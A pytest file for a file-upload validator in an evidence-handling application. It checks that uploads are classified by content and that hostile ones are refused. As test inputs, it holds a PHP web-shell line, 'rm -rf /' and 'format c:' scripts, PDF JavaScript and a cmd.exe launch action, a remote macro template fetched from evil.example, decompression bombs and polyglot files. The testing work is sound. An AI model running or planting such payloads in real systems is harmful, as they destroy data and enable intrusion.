"""What is refused, by its content, whatever it is called."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from django.conf import LazySettings
from PIL import Image

from zhiben.core.errors import InputError
from zhiben.foundation.evidence.incoming import Incoming, receive
from zhiben.foundation.evidence.testing import encoded, office, pdf, photo, scene, zipped

pytestmark = pytest.mark.usefixtures("files")
PNG = b"\x89PNG\r\n\x1a\n"


def taken_in(data: bytes, name: str = "现场.jpg") -> Incoming:
    with receive(io.BytesIO(data).read, name=name) as incoming:
        return incoming


def png(width: int, height: int, *chunks: tuple[bytes, bytes]) -> bytes:
    """A PNG that says how large it is, with the chunks that follow."""
    header = (b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    made = [
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in (header, *chunks, (b"IEND", b""))
    ]
    return PNG + b"".join(made)


def compound(*streams: str) -> bytes:
    """The directory entries of a compound file, as far as names go."""
    entries = [s.encode("utf-16-le").ljust(64, b"\0") + struct.pack("<H", 2 * len(s) + 2) + bytes(62) for s in streams]
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"".join(entries)


def lying_zip() -> bytes:
    """A part of 64 MB of which the directory says that it is 10 bytes."""
    data = bytearray(office({"word/media/a.bin": bytes(64 * 1024 * 1024)}))
    real = struct.pack("<I", 64 * 1024 * 1024)
    while (at := data.find(real)) >= 0:
        data[at : at + 4] = struct.pack("<I", 10)
    return bytes(data)


def packed_objects(body: bytes) -> bytes:
    packed = zlib.compress(body)
    return b"2 0 obj << /Type /ObjStm /Length %d >>\nstream\n%s\nendstream\nendobj" % (len(packed), packed)


TEMPLATE = (
    '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" '
    'TargetMode="External"/></Relationships>'
)
REFUSED = [
    ("empty", b"", "empty"),
    ("plain text", "现场检查记录".encode(), "type_unknown"),
    ("random", bytes(range(256)) * 20, "type_unknown"),
    ("page", b"\xef\xbb\xbf  <!DOCTYPE html><html><body>hello", "active_content"),
    ("page in utf-16", "<html><script>1</script>".encode("utf-16"), "active_content"),
    ("svg with script", b'<?xml version="1.0"?><svg xmlns="x"><script>alert(1)</script></svg>', "active_content"),
    ("svg without", b'<svg xmlns="http://www.w3.org/2000/svg"/>', "active_content"),
    ("php", b"<?php system($_GET['c']);", "active_content"),
    ("windows program", b"MZ\x90\x00" + bytes(600), "executable"),
    ("linux program", b"\x7fELF" + bytes(600), "executable"),
    ("shell script", b"#!/bin/sh\nrm -rf /\n", "executable"),
    ("batch file", b"@echo off\r\nformat c:\r\n", "executable"),
    ("shortcut", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(600), "executable"),
    ("rar", b"Rar!\x1a\x07\x01\x00" + bytes(600), "archive"),
    ("7z", b"7z\xbc\xaf\x27\x1c" + bytes(600), "archive"),
    ("gzip", b"\x1f\x8b\x08\x00" + bytes(600), "archive"),
    ("zip", zipped({"a.txt": "a"}), "archive"),
    ("java archive", zipped({"META-INF/MANIFEST.MF": "x", "A.class": "x"}), "executable"),
    ("heic", b"\x00\x00\x00\x18ftypheic" + bytes(600), "heic"),
    ("docx with macros", office({"word/vbaProject.bin": "x"}), "macro"),
    ("docx that declares them", office({"[Content_Types].xml": "<T a='application/vnd.ms-word.document.macroEnabled'/>"}), "macro"),
    ("docx with a control", office({"word/activeX/activeX1.bin": "x"}), "macro"),
    ("docx with a remote template", office({"word/_rels/settings.xml.rels": TEMPLATE}), "macro"),
    ("docx with a program", office({"word/embeddings/a.exe": "x"}), "executable"),
    ("docx with an archive", office({"word/embeddings/a.zip": "x"}), "archive"),
    ("docx that is a bomb", office({"word/media/a.bin": bytes(64 * 1024 * 1024)}), "bomb"),
    ("docx that lies about it", lying_zip(), "bomb"),
    ("docx cut off", office()[:-30], "damaged"),
    ("doc with macros", compound("WordDocument", "_VBA_PROJECT"), "macro"),
    ("office document with a password", compound("EncryptedPackage"), "encrypted"),
    ("installer", compound("!_StringData"), "type_unknown"),
    ("pdf with a script", pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "active_content"),
    ("pdf with a script spelt otherwise", pdf(b"<< /S /J#61vaScr#69pt >>"), "active_content"),
    ("pdf with a packed script", pdf(packed_objects(b"<< /S /JavaScript >>")), "active_content"),
    ("pdf that starts a program", pdf(b"<< /S /Launch /F (cmd.exe) >>"), "active_content"),
    ("pdf with a password", pdf(b"/Encrypt 5 0 R"), "encrypted"),
    ("pdf that is a bomb", pdf(packed_objects(bytes(32 * 1024 * 1024))), "bomb"),
    ("pdf that is a zip as well", pdf() + zipped({"a.class": "x"}), "polyglot"),
    ("photo that is a zip as well", photo() + zipped({"a.exe": "x"}), "polyglot"),
    ("gif that is a script as well", b"GIF89a/*" + bytes(500) + b"*/=1;<script>x</script>", "polyglot"),
    ("photo with a page in its comment", photo()[:2] + b"\xff\xfe\x00\x10<html><body>a" + photo()[2:], "polyglot"),
    ("sound with a page behind", b"ID3\x04\x00" + bytes(5000) + b"<html><body>", "polyglot"),
    ("photo cut off", photo()[:3000], "damaged"),
    ("photo of nothing", b"\xff\xd8\xff\xe0" + bytes(600), "damaged"),
    ("one pixel", encoded(Image.new("RGB", (1, 1)), "PNG"), "tiny"),
    ("a line", encoded(Image.new("RGB", (1000, 2)), "PNG"), "tiny"),
    ("50,000 × 50,000", png(50_000, 50_000, (b"IDAT", zlib.compress(bytes(1000)))), "pixels"),
    ("text in a png that unpacks to much", png(64, 64, (b"zTXt", b"a\0\0" + zlib.compress(bytes(90_000_000)))), "damaged"),
]  # fmt: skip


@pytest.mark.parametrize(("data", "code"), [case[1:] for case in REFUSED], ids=[case[0] for case in REFUSED])
@pytest.mark.parametrize("name", ["现场.jpg", "无害.pdf"])
def test_a_hostile_or_useless_file_is_refused_with_one_sentence(data: bytes, code: str, name: str) -> None:
    with pytest.raises(InputError) as refused:
        taken_in(data, name)
    assert refused.value.code == f"evidence.{code}"
    assert refused.value.message.startswith(f"“{name}”") and refused.value.message.count("。") == 1


ACCEPTED = [
    ("jpeg", photo(), "jpeg"),
    ("png", encoded(scene(2), "PNG"), "png"),
    ("png with transparency", encoded(scene(2).convert("RGBA"), "PNG"), "png"),
    ("png with palette", encoded(scene(2).convert("P"), "PNG"), "png"),
    ("webp", encoded(scene(3), "WEBP"), "webp"),
    ("gif", encoded(scene(4), "GIF"), "gif"),
    ("bmp", encoded(scene(5, (64, 64)), "BMP"), "bmp"),
    ("pdf", pdf(packed_objects(b"<< /S /GoTo >>")), "pdf"),
    ("docx", office(), "docx"),
    ("xlsx", zipped({"[Content_Types].xml": "<T/>", "xl/workbook.xml": "<w/>"}), "xlsx"),
    ("ofd", zipped({"OFD.xml": "<o/>"}), "ofd"),
    ("doc", compound("WordDocument"), "doc"),
    ("mp3 with tag", b"ID3\x04\x00" + bytes(600), "mp3"),
    ("mp3 by frame", b"\xff\xfb\x90\x64" + bytes(600), "mp3"),
    ("aac", b"\xff\xf1\x50\x80" + bytes(600), "aac"),
    ("amr", b"#!AMR\n" + bytes(600), "amr"),
    ("wav", b"RIFF\x00\x00\x00\x00WAVEfmt " + bytes(600), "wav"),
    ("m4a", b"\x00\x00\x00\x18ftypM4A " + bytes(600), "m4a"),
    ("mp4", b"\x00\x00\x00\x18ftypisom" + bytes(600), "mp4"),
    ("mov", b"\x00\x00\x00\x18ftypqt  " + bytes(600), "mov"),
    ("3gp", b"\x00\x00\x00\x18ftyp3gp4" + bytes(600), "3gp"),
    ("webm", b"\x1a\x45\xdf\xa3\x01\x42\x82\x84webm" + bytes(600), "webm"),
]


@pytest.mark.parametrize(("data", "code"), [case[1:] for case in ACCEPTED], ids=[case[0] for case in ACCEPTED])
def test_what_serves_as_evidence_is_recognised_by_content_and_named_after_it(data: bytes, code: str) -> None:
    incoming = taken_in(data, "录像.exe")
    assert incoming.kind.code == code
    assert incoming.name == f"录像.{incoming.kind.extensions[0]}"


def test_a_photo_is_refused_above_its_size_while_it_comes(settings: LazySettings, files: Path) -> None:
    settings.EVIDENCE_LARGEST_MB = 1
    read: list[int] = []
    source = io.BytesIO(photo() + bytes(5_000_000))
    with pytest.raises(InputError) as refused, receive(lambda n: read.append(n) or source.read(n), name="a.jpg"):  # type: ignore[func-returns-value]
        pass
    assert refused.value.code == "evidence.too_large" and sum(read) < 2_000_000
    assert list(files.rglob("*.part")) == []


def test_an_encrypted_archive_inside_a_document_is_refused() -> None:
    out = io.BytesIO(office())
    with zipfile.ZipFile(out, "a") as package:
        package.writestr("word/secret.xml", "x")
    data = bytearray(out.getvalue())
    for magic, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        data[data.rfind(magic) + offset] |= 1
    with pytest.raises(InputError) as refused:
        taken_in(bytes(data), "a.docx")
    assert refused.value.code == "evidence.encrypted"
